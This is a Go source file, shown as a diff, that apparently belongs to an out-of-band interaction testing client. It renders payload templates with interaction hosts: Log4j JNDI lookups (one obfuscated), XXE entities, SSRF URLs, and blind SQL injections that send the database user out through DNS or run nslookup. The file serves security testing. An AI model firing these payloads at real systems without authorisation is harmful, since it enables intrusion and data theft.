@@ -0,0 +1,122 @@
+package client
+
+import (
+	"sort"
+	"strings"
+)
+
+const (
+	// hostPlaceholder is replaced with the interaction host in the payload templates
+	hostPlaceholder = "{{host}}"
+	// httpHostPlaceholder and httpsHostPlaceholder are replaced with the interaction
+	// host followed by the public http or https port of the server if not the default one
+	httpHostPlaceholder  = "{{http-host}}"
+	httpsHostPlaceholder = "{{https-host}}"
+)
+
+// payloadTemplate is a payload template with the service of the server
+// capturing it, the dns lookups of the host if no other service does
+type payloadTemplate struct {
+	service string
+	value   string
+}
+
+// payloadTemplates contains the templates of the common out-of-band payloads by type
+var payloadTemplates = map[string][]payloadTemplate{
+	// JNDI lookups as used for log4j style injections
+	"jndi": {
+		{"ldap", "${jndi:ldap://{{host}}/a}"},
+		{"dns", "${jndi:dns://{{host}}}"},
+		{"dns", "${jndi:rmi://{{host}}/a}"},
+		{"ldap", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{{host}}/a}"},
+	},
+	// XXE snippets loading external entities and parameter entities
+	"xxe": {
+		{"http", `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY ext SYSTEM "http://{{http-host}}/">]><root>&ext;</root>`},
+		{"http", `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY % ext SYSTEM "http://{{http-host}}/x.dtd"> %ext;]><root/>`},
+		{"http", `<!ENTITY % ext SYSTEM "http://{{http-host}}/x.dtd"> %ext;`},
+	},
+	// SSRF urls for the supported protocols
+	"ssrf": {
+		{"http", "http://{{http-host}}/"},
+		{"https", "https://{{https-host}}/"},
+		{"http", "//{{http-host}}/"},
+		{"dns", "{{host}}"},
+	},
+	// blind SQL injections resolving a host with the result of a query as subdomain
+	"sqli": {
+		{"dns", `;EXEC master..xp_dirtree '\\{{host}}\a'--`},
+		{"dns", `SELECT LOAD_FILE(CONCAT('\\\\',(SELECT HEX(USER())),'.{{host}}\\a'))`},
+		{"dns", `SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT RAWTOHEX(USER) FROM DUAL)||'.{{host}}') FROM DUAL`},
+		{"dns", `COPY (SELECT '') TO PROGRAM 'nslookup {{host}}'`},
+	},
+}
+
+// Payload is an out-of-band payload filled with an interaction host
+type Payload struct {
+	// Type is the type of the payload (jndi, xxe, ssrf, sqli)
+	Type string
+	// Host is the interaction host used in the payload
+	Host string
+	// Value is the rendered payload
+	Value string
+}
+
+// PayloadTypes returns the supported payload types
+func PayloadTypes() []string {
+	types := make([]string, 0, len(payloadTemplates))
+	for payloadType := range payloadTemplates {
+		types = append(types, payloadType)
+	}
+	sort.Strings(types)
+	return types
+}
+
+// Payloads returns the payloads of the given types, or of all the types if
+// none is given, each one filled with a freshly generated interaction host.
+// Unknown types and the payloads captured by services disabled on the server
+// are ignored.
+func (c *Client) Payloads(types ...string) []Payload {
+	return renderPayloads(c.URL, c.publicPorts, c.ServiceEnabled, types...)
+}
+
+// RenderPayloads returns the payloads of the given types, or of all the types
+// if none is given, filled with the hosts returned by host. It can be used
+// with URLForKey to embed deterministic hosts.
+func RenderPayloads(host func() string, types ...string) []Payload {
+	return renderPayloads(host, nil, nil, types...)
+}
+
+// renderPayloads renders the payloads with the public ports of the server,
+// skipping the payloads of the services which aren't enabled if set.
+func renderPayloads(host func() string, publicPorts map[string]int, enabled func(string) bool, types ...string) []Payload {
+	if len(types) == 0 {
+		types = PayloadTypes()
+	}
+	var payloads []Payload
+	for _, payloadType := range types {
+		payloadType = strings.ToLower(payloadType)
+		for _, template := range payloadTemplates[payloadType] {
+			if enabled != nil && !enabled(template.service) {
+				continue
+			}
+			payloadHost := host()
+			payloads = append(payloads, Payload{
+				Type:  payloadType,
+				Host:  payloadHost,
+				Value: renderPayload(template.value, payloadHost, publicPorts),
+			})
+		}
+	}
+	return payloads
+}
+
+// renderPayload fills a payload template with an interaction host
+func renderPayload(template, host string, publicPorts map[string]int) string {
+	replacer := strings.NewReplacer(
+		hostPlaceholder, host,
+		httpHostPlaceholder, hostWithPort(host, publicPorts["http"], 80),
+		httpsHostPlaceholder, hostWithPort(host, publicPorts["https"], 443),
+	)
+	return replacer.Replace(template)
+}